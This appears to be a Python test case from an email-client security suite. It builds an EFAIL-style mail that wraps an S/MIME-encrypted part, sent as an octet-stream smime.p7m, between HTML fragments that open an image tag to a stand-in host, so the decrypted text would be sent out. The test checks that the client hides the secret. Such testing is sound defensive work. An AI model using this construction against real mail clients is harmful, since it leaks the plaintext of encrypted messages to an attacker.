"""The same with the captured ciphertext as a file named smime.p7m of type octet-stream."""

from case import attack
from generators import cast, enveloped_data as ed, mail as m

expect = attack(signature="none", encryption="partial", findings=["receive.encrypted-part-closed"],
                hides=["Rosenkohl"], unchanged=True)


def mail():
    secret = m.pkcs7(ed.cbc(cast.rita, m.text("Das Kennwort ist Rosenkohl.")), media_type="application/octet-stream")
    return m.header() + m.multipart("mixed", m.html('<img src="//e/?'), secret, m.html('">'))
